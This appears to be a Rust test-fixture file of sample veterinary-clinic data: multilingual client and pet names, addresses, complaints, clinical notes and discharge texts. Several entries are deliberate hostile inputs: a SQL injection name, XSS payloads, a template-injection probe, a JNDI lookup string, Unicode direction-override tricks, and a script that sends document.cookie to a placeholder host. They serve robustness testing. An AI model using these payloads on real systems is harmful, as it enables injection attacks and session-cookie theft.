//! Names in several scripts, right-to-left ones and hostile ones among them.

/// First and last names of the Finnish clinic's clients.
pub(super) const FINNISH_CLIENTS: [(&str, &str); 30] = [
    ("Aino", "Virtanen"),
    ("Väinö", "Hämäläinen"),
    ("Päivi", "Mäkelä"),
    ("Jyrki", "Äyräväinen"),
    ("Sirkka-Liisa", "Öhman"),
    ("Björn", "Ångström"),
    ("Åsa", "Sjöblom"),
    ("Ebba", "af Hällström"),
    ("Пётр", "Соколов"),
    ("Анастасия", "Кузнецова"),
    ("ليلى", "الحسن"),
    ("محمد", "العلي"),
    ("美咲", "佐藤"),
    ("רחל", "כהן"),
    ("Nguyễn", "Thị Ánh"),
    ("Eero", "Korhonen"),
    ("Tuulikki", "Nieminen"),
    ("Onni", "Lehtonen"),
    ("Hilla", "Saarinen"),
    ("Kerttu", "Heikkinen"),
    ("Matti", "Järvinen"),
    ("Maarit", "Ylä-Outinen"),
    ("Robert'); DROP TABLE clients;--", "Tables"),
    (
        "<script>alert(1)</script>",
        "\"Lainausmerkki\" O'Neil & Pojat",
    ),
    ("Marja", "Laaksonen"),
    ("Ilkka", "Räsänen"),
    ("Veera", "Kinnunen"),
    ("Oskari", "Turunen"),
    ("Sanni", "Pitkänen"),
    ("Paavo", "Wikström"),
];

/// First and last names of the British clinic's clients.
pub(super) const BRITISH_CLIENTS: [(&str, &str); 30] = [
    ("Margaret", "Ashworth"),
    ("Siân", "Llewelyn-Bowen"),
    ("Caoimhe", "Ní Dhomhnaill"),
    ("Zoë", "Featherstonehaugh"),
    ("Oluwaseun", "Adébáyò"),
    ("Wojciech", "Żółkiewski"),
    ("عائشہ", "خان"),
    ("יעל", "לוי"),
    ("王", "小明"),
    ("Ελένη", "Παπαδοπούλου"),
    ("Ірина", "Шевченко"),
    ("Priya", "Ramanathan"),
    ("D'Arcy", "O'Brien-Smythe"),
    ("<b>Bold</b>", "<img src=x onerror=alert(1)>"),
    ("{{7*7}}", "${jndi:ldap://example.invalid/a}"),
    ("Harold", "Pemberton"),
    ("Joyce", "Tindall"),
    ("Alistair", "McNab"),
    ("Bronwen", "Pryce"),
    ("Gareth", "Hughes"),
    ("Fiona", "Cartwright"),
    ("Nigel", "Sandford"),
    ("Imogen", "Thistlewood"),
    ("Rupert", "Blackwood"),
    ("Doris", "Appleyard"),
    ("Kwame", "Mensah"),
    ("Tegan", "Rowse"),
    ("Callum", "Fraser"),
    ("Hyacinth", "Buckley"),
    ("Reggie", "Sutcliffe"),
];

/// Last names for the clients after the first thirty.
pub(super) const MORE_LAST_NAMES: [&str; 12] = [
    "Lindqvist",
    "Ahonen",
    "Berg",
    "Holm",
    "Salo",
    "Norrgård",
    "Moreau",
    "Schäfer",
    "Ibsen",
    "Novák",
    "Silva",
    "Keane",
];

/// Animals' names.
pub(super) const ANIMALS: [&str; 40] = [
    "Musti",
    "Rekku",
    "Mirri",
    "Hilppa",
    "Töpö",
    "Pörri",
    "Nöpö",
    "Kaapo",
    "Luna",
    "Bella",
    "Milo",
    "Poppy",
    "Alfie",
    "Biscuit",
    "Daisy",
    "Rosie",
    "Oscar",
    "Teddy",
    "Willow",
    "Max",
    "Мурка",
    "Шарик",
    "بسبوسة",
    "ミケ",
    "Chloë",
    "Señor Bigotes",
    "Jekku",
    "Viiru",
    "Pekoni",
    "Nelli",
    "Halla",
    "Roope",
    "Sulo",
    "Ukko",
    "Vilma",
    "Tessu",
    "Peni",
    "Kisu",
    "Raksu",
    "Ruusu",
];

/// Names a screen must survive.
pub(super) const HOSTILE_ANIMALS: [&str; 5] = [
    "<script>alert('patient')</script>",
    "Fido\" onmouseover=\"alert(1)",
    "Wolfgang Amadeus Fürchtegott von und zu Hundertwasser-Schnauzenstein the Third of Little Snoring on the Marsh, called Wuffel",
    "\u{202e}gnaf\u{202c} 'Reversed' \u{200b}",
    "Ö\u{308}\u{301} 🐕‍🦺 &amp;",
];

/// Where people live, per clinic: street, postal code, city.
pub(super) const FINNISH_PLACES: [(&str, &str, &str); 6] = [
    ("Hämeentie 14 B 22", "00500", "Helsinki"),
    ("Itäinen Pitkäkatu 3", "20520", "Turku"),
    ("Långstrandsgatan 7", "06100", "Borgå"),
    ("Satakunnankatu 41", "33210", "Tampere"),
    ("Välikuja 2", "02770", "Espoo"),
    ("Öövägen 1", "22100", "Mariehamn"),
];

/// Where people live, per clinic: street, postal code, city.
pub(super) const BRITISH_PLACES: [(&str, &str, &str); 6] = [
    ("12 Harbour Street", "TR11 3LF", "Falmouth"),
    ("The Old Forge, Mill Lane", "TR10 8QT", "Penryn"),
    ("Flat 3, 81 Killigrew Terrace", "TR11 3QP", "Falmouth"),
    ("Tŷ Gwyn, Heol y Bont", "SY23 1NN", "Aberystwyth"),
    ("5 King's Parade", "CB2 1SJ", "Cambridge"),
    ("Bwthyn y Môr", "LL53 5TR", "Pwllheli"),
];

/// Reasons people come for: text as the receptionist types it.
pub(super) const COMPLAINTS: [&str; 14] = [
    "Annual check and vaccination",
    "Limping on left hind leg since Sunday",
    "Vomiting, 3 times since yesterday evening; off food",
    "Itchy ears, shaking head",
    "Drinking a lot",
    "Dental check",
    "Nail clip & anal glands",
    "Coughing at night",
    "Lump on flank <5 mm, \"getting bigger\"",
    "Weight control",
    "Rokotus",
    "Ontuu oikeaa etujalkaa",
    "Hudproblem, kliar sig mycket",
    "Post-op check; stitches out",
];

/// Clinical notes, some with markup as the rich text editor leaves it, some hostile.
pub(super) const NOTES: [&str; 8] = [
    "BAR. MM pink, CRT < 2 s. HR 104, RR 24, T 38.6. Heart and lungs NAD. BCS 5/9.",
    "<p>Owner reports <strong>reduced appetite</strong> for 2 days.</p><ul><li>No vomiting</li><li>Stools normal</li></ul>",
    "Grade II/VI left apical systolic murmur.\nAdvised echo.\n\nRecheck 3 months.",
    "Alert, mildly dehydrated (5 %). Abdomen soft, non-painful.",
    "<div onclick=\"alert('note')\">Ears: <em>ceruminous</em> otitis externa AS. Cytology: Malassezia ++</div>",
    "Yleisvointi hyvä. Limakalvot vaaleanpunaiset, sydän- ja keuhkoäänet normaalit.",
    "Dental: grade 2 calculus, PD 2 at 108. Discussed COHAT.",
    "Lameness 2/5 LH, positive drawer. DDx: CCL rupture, meniscal injury.",
];

/// Discharge instructions, markup and hostile markup included \[C: the text may hold HTML\].
pub(super) const DISCHARGES: [&str; 5] = [
    "<p>Keep the wound <strong>clean and dry</strong> for 10 days.</p><p>Ring us if it swells.</p>",
    "<p>Give the tablets with food.</p><script>fetch('https://example.invalid/'+document.cookie)</script>",
    "<p style=\"background:url(javascript:alert(1))\">Rest: lead walks only for two weeks.</p>",
    "<a href=\"javascript:alert(1)\">Diet sheet</a><iframe src=\"https://example.invalid\"></iframe><p>Small meals, 4 times a day.</p>",
    "Kontrolli viikon kuluttua. Kauluria käytettävä koko ajan.",
];

/// Diagnoses as they are kept on a visit.
pub(super) const DIAGNOSES: [&str; 9] = [
    "Otitis externa",
    "Gastroenteritis, acute",
    "Cranial cruciate ligament rupture",
    "Periodontal disease",
    "Chronic kidney disease",
    "Atopic dermatitis",
    "Mitral valve disease, degenerative",
    "Healthy animal",
    "Diabetes mellitus",
];

/// Tags clinics put on records.
pub(super) const TAGS: [&str; 6] = [
    "Aggressive",
    "Breeder",
    "VIP",
    "Insurance <pending>",
    "Nervous – sedate",
    "Käteisasiakas",
];
